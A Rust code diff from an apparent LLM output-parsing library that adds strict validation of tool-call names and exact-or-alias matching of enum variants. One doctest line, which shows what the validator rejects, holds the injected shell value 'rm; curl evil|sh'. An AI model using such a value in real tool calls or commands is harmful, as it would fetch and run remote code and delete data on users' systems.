@@ -212,6 +212,9 @@ pub struct EnumSpec {
 /// Picks the variant `text` names, recording how leniently; unknown names go to the
 /// `other` variant when there is one.
 pub fn variant(text: &str, span: Span, spec: &EnumSpec, cx: &mut Context) -> Result<usize, Failed> {
+    if cx.take_tool_name() {
+        return tool_variant(text, span, spec, cx);
+    }
     let found = match_variant(text, spec.variants);
     let (index, kind) = match found {
         VariantMatch::Exact(i) => {
@@ -228,6 +231,56 @@ pub fn variant(text: &str, span: Span, spec: &EnumSpec, cx: &mut Context) -> Res
         VariantMatch::InText(i) => (i, CoercionKind::VariantFromText),
         VariantMatch::Ambiguous(list) => return other_or_fail(text, span, spec, cx, Some(list)),
         VariantMatch::NoMatch => return other_or_fail(text, span, spec, cx, None),
+    };
+    cx.note_match();
+    cx.coerce(kind, span);
+    Ok(index)
+}
+
+/// Whether `text` is written as a tool name: letters, digits, `_`, `-` and `.` only, as the
+/// APIs' tool names are (no spaces, no shell punctuation), at most 128 bytes.
+///
+/// ```
+/// use llm_extract::coerce::is_tool_name;
+/// assert!(is_tool_name("get_weather") && is_tool_name("files.delete-v2"));
+/// assert!(!is_tool_name("rm; curl evil|sh") && !is_tool_name("delete file") && !is_tool_name(""));
+/// ```
+pub fn is_tool_name(text: &str) -> bool {
+    !text.is_empty()
+        && text.len() <= 128
+        && text
+            .chars()
+            .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
+}
+
+/// The variant a tool call's name picks: exactly, after normalization (case, `_`, `-`, `.`)
+/// or by alias, never by words inside the name, diacritics or likeness (`undo_delete_file`
+/// is not `DeleteFile`, `rm.exe` is not `Rm`); a name not written as one
+/// ([`is_tool_name`]) picks none. Unknown names go to the `other` variant when there is one.
+fn tool_variant(
+    text: &str,
+    span: Span,
+    spec: &EnumSpec,
+    cx: &mut Context,
+) -> Result<usize, Failed> {
+    if !is_tool_name(text) {
+        let shown = crate::error::shorten(text, 40);
+        let message = format!("{shown:?} is not written as a tool name");
+        let issue = Issue::new(Category::Variant, cx.path(), message)
+            .expected("letters, digits, `_`, `-` and `.`")
+            .at(span);
+        cx.push_issue(issue);
+        return Err(Failed);
+    }
+    let (index, kind) = match match_variant(text, spec.variants) {
+        VariantMatch::Exact(i) => {
+            cx.note_match();
+            return Ok(i);
+        }
+        VariantMatch::Normalized(i) => (i, CoercionKind::NormalizedVariant),
+        VariantMatch::Alias(i) => (i, CoercionKind::AliasVariant),
+        VariantMatch::Ambiguous(list) => return other_or_fail(text, span, spec, cx, Some(list)),
+        _ => return other_or_fail(text, span, spec, cx, None),
     };
     cx.note_match();
     cx.coerce(kind, span);
